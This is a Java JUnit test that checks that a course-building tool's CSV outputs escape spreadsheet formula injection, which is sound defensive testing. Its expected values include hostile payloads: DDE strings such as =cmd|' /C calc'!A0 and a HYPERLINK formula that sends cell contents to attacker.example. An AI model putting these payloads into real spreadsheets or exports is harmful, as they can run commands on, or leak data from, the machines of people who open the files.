package org.parkbench.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.Reader;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 12, acceptance 3: no CSV the project writes starts a cell with {@code =}, {@code +},
 * {@code -}, {@code @}, a tab or a CR. A course with a data-only case whose every text that reaches
 * a CSV starts like a formula ({@code app/src/test/resources/hostile/formulas/}, its README says
 * what is where) is built, its figures are written with {@code figures --course}, and answer files
 * whose student ids and responses start like formulas are graded; then every {@code *.csv} written
 * is read back with Commons CSV and every cell looked at.
 *
 * <p>A cell may start with {@code -} only when it is a number as {@code SpreadsheetCsv} writes
 * numbers: a plain decimal ({@code -12.8}, a latitude), which a spreadsheet reads as a number and
 * never as a formula. {@code SpreadsheetCsv} decides by the value's Java type, not by its look: the
 * event text {@code -5} is text, and is written {@code '-5}; the test checks both.
 */
class FormulaInjectionTest {
    private static final String FORMULA_STARTS = "=+-@\t\r";
    private static final Pattern PLAIN_NUMBER = Pattern.compile("-\\d+(\\.\\d+)?");
    private static final ObjectMapper JSON = new ObjectMapper();

    /** Student ids as a student could type them; the site trims the spaces, and each one is a formula. */
    private static final List<String> STUDENT_IDS = List.of("=1+1", "+SUM(1;2)", "-2+3", "@A1", " =HYPERLINK(\"http://x.example\")");
    /** Short answers as a student could type them; nothing is trimmed from a response. */
    private static final List<String> RESPONSES = List.of("\t=1+1", "\r@SUM(1)", "=HYPERLINK(\"http://x.example\";\"x\")", "-1+1", "+1");

    @TempDir
    Path dir;

    @Test
    void noCellOfABuildAFiguresRunOrAGradeRunStartsLikeAFormula() throws Exception {
        Path course = copyCorpus().resolve("course.yml");
        Path site = dir.resolve("site");
        Path figures = dir.resolve("figures");
        Path grades = dir.resolve("grades").resolve("grades.csv");

        CommandRun build = CommandRun.of("build", "--course", course.toString(), "--out", site.toString());
        assertThat(build.exitCode()).as(build.err()).isZero();
        CommandRun figuresRun = CommandRun.of("figures", "--course", course.toString(), "--out", figures.toString(), "--format", "svg");
        assertThat(figuresRun.exitCode()).as(figuresRun.err()).isZero();
        // a course without the overview has no headline statistics: those figures are left out, said so
        assertThat(figuresRun.err()).contains("parkbench figures: note: not drawn for this course: ");
        List<String> grade = new ArrayList<>(List.of("grade", "--course", course.toString(), "--out", grades.toString()));
        for (int i = 0; i < STUDENT_IDS.size(); i++) {
            grade.add(answerFile(i).toString());
        }
        CommandRun gradeRun = CommandRun.of(grade.toArray(String[]::new));
        assertThat(gradeRun.exitCode()).as(gradeRun.err()).isZero();

        Map<Path, List<String>> siteCsvs = cells(site);
        Map<Path, List<String>> figureCsvs = cells(figures);
        Map<Path, List<String>> gradeCsvs = cells(grades.getParent());
        assertThat(siteCsvs.keySet()).anyMatch(p -> p.endsWith("data/formula-park/events.csv"))
                .anyMatch(p -> p.toString().contains("data/figures/formula-park"));
        assertThat(figureCsvs.keySet()).anyMatch(p -> p.getFileName().toString().startsWith("formula-park"));
        assertThat(gradeCsvs.keySet()).extracting(p -> p.getFileName().toString()).containsExactlyInAnyOrder("grades.csv",
                "grades-manual.csv");

        for (Map<Path, List<String>> csvs : List.of(siteCsvs, figureCsvs, gradeCsvs)) {
            csvs.forEach((file, cells) -> assertThat(cells).as(file.toString()).allSatisfy(FormulaInjectionTest::assertNoFormulaStart));
        }

        // the hostile texts did arrive, behind the guard, and numbers stayed numbers
        List<String> siteData = all(siteCsvs, p -> !p.toString().contains("data/figures/"));
        assertThat(siteData).contains("'=2+5 agreement signed", "'-5", "'@opened", "'=1+2 Formula Park", "'+公式园", "'-Lusaka",
                "'@Jiangsu", "'=cmd|' /C calc'!A0 Government", "'-Host Government", "'+Developer Co.", "'=SUM(A1:A9)", "'+tab note",
                "'=HYPERLINK(\"http://attacker.example/?\"&A1;\"click\")", "'+SUM(1+1) an invented report", "'-2+3 Press",
                "'@SUM(1)*cmd|' /C calc'!A0", "'=1+2 tab author", "'=3+4 CR title", "'-1 note", "'+Formula Zone", "'=公式区",
                "'-Zone Developer", "'@Hubei", "'=evidence behind a tab", "'=1+1 a statistic's note", "'=1+1 a park note", "-12.8");
        assertThat(all(siteCsvs, p -> p.toString().contains("data/figures/"))).contains("'=1+2 Formula Park");
        assertThat(all(figureCsvs, p -> true)).contains("'=1+2 Formula Park");
        List<String> gradebook = all(gradeCsvs, p -> p.endsWith("grades.csv"));
        assertThat(gradebook).contains("'=1+1", "'+SUM(1;2)", "'-2+3", "'@A1", "'=HYPERLINK(\"http://x.example\")");
        List<String> manual = all(gradeCsvs, p -> p.endsWith("grades-manual.csv"));
        assertThat(manual).contains("'\t=1+1", "'\r@SUM(1)", "'=HYPERLINK(\"http://x.example\";\"x\")", "'-1+1", "'+1");
        assertThat(manual).anyMatch(c -> c.startsWith("'") && c.contains("=1+1 a model answer behind a tab"));
    }

    /** A cell a spreadsheet shows as it is: not starting like a formula, or a plain negative number. */
    private static void assertNoFormulaStart(String cell) {
        if (cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0) {
            return;
        }
        assertThat(cell).as("a cell starting with %s", JSON.valueToTree(cell.substring(0, 1))).matches(PLAIN_NUMBER);
    }

    private Path copyCorpus() throws IOException, URISyntaxException {
        Path corpus = Path.of(Objects.requireNonNull(getClass().getResource("/hostile/formulas/README.md")).toURI()).getParent();
        Path to = dir.resolve("course");
        try (Stream<Path> files = Files.walk(corpus)) {
            for (Path f : files.toList()) {
                Path target = to.resolve(corpus.relativize(f).toString());
                if (Files.isDirectory(f)) {
                    Files.createDirectories(target);
                } else {
                    Files.copy(f, target);
                }
            }
        }
        return to;
    }

    /** Student {@code i}'s file: a short answer to the hostile case's exercise. */
    private Path answerFile(int i) throws IOException {
        ObjectNode file = JSON.createObjectNode().put("format", "parkbench-answers").put("version", 1).put("course", "formula-course")
                .put("student_id", STUDENT_IDS.get(i));
        // short answers have one variant: variant 0 for every student
        file.putArray("answers")
                .add(JSON.createObjectNode().put("exercise", "formula-park-sources-disagree").put("variant", 0).put("response", RESPONSES.get(i)));
        Path path = dir.resolve("answers").resolve("student-" + i + ".json");
        Files.createDirectories(path.getParent());
        return Files.writeString(path, JSON.writeValueAsString(file));
    }

    /** Every cell of every {@code *.csv} under {@code root}, per file, read back by Commons CSV. */
    private static Map<Path, List<String>> cells(Path root) throws IOException {
        Map<Path, List<String>> out = new LinkedHashMap<>();
        try (Stream<Path> files = Files.walk(root)) {
            for (Path f : files.filter(p -> p.getFileName().toString().endsWith(".csv")).sorted().toList()) {
                List<String> cells = new ArrayList<>();
                try (Reader in = Files.newBufferedReader(f, StandardCharsets.UTF_8)) {
                    for (CSVRecord r : CSVFormat.DEFAULT.parse(in)) {
                        r.forEach(cells::add);
                    }
                }
                out.put(f, cells);
            }
        }
        assertThat(out).as("CSV files under " + root).isNotEmpty();
        return out;
    }

    private static List<String> all(Map<Path, List<String>> csvs, java.util.function.Predicate<Path> which) {
        return csvs.entrySet().stream().filter(e -> which.test(e.getKey())).flatMap(e -> e.getValue().stream()).toList();
    }
}
